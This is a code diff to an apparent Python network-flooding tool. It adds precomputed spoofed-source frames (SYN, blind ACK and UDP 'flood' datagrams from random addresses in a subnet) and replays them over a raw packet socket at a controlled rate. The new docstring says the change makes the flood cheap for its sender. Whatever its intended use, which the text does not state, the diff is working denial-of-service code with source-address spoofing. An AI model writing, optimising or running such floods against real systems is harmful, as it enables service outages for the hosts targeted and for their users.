@@ -48,21 +48,38 @@ def tcp(sport: int, dport: int, seq: int, ack: int, flags: int) -> bytes:
     return struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
 
 
+def connections(net: str, dst: str, port: int, n: int) -> list[tuple[bytes, bytes, bytes]]:
+    """@p n spoofed connections' frames: SYN, blind ACK, a datagram each."""
+    rng = random.Random(7)
+    out = []
+    for _ in range(n):
+        src = f"{net}.{rng.randrange(1, 255)}"
+        sport = rng.randrange(1024, 65535)
+        seq = rng.randrange(1 << 32)
+        out.append(
+            (
+                frame(src, dst, TCP, tcp(sport, port, seq, 0, SYN)),
+                frame(src, dst, TCP, tcp(sport, port, seq + 1, rng.randrange(1 << 32), ACK)),
+                frame(src, dst, UDP, struct.pack("!HHHH", sport, 9, 13, 0) + b"flood"),
+            )
+        )
+    return out
+
+
 def flood(net: str, dst: str, port: int, rate: int, seconds: float, dev: str) -> int:
+    """Made before the clock starts, so the flood costs its sender little
+    CPU (a send a frame): two seconds' worth, sent round (a tuple comes
+    again after two seconds, when the flow it made is long gone)."""
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     s.bind((dev, 0))
-    rng = random.Random(7)
+    conns = connections(net, dst, port, max(1, 2 * rate))
     sent = 0
     start = time.monotonic()
     while time.monotonic() - start < seconds:
         tick = time.monotonic()
         for _ in range(max(1, rate // 10)):
-            src = f"{net}.{rng.randrange(1, 255)}"
-            sport = rng.randrange(1024, 65535)
-            seq = rng.randrange(1 << 32)
-            s.send(frame(src, dst, TCP, tcp(sport, port, seq, 0, SYN)))
-            s.send(frame(src, dst, TCP, tcp(sport, port, seq + 1, rng.randrange(1 << 32), ACK)))
-            s.send(frame(src, dst, UDP, struct.pack("!HHHH", sport, 9, 13, 0) + b"flood"))
+            for f in conns[sent % len(conns)]:
+                s.send(f)
             sent += 1
         time.sleep(max(0.0, 0.1 - (time.monotonic() - tick)))
     return sent
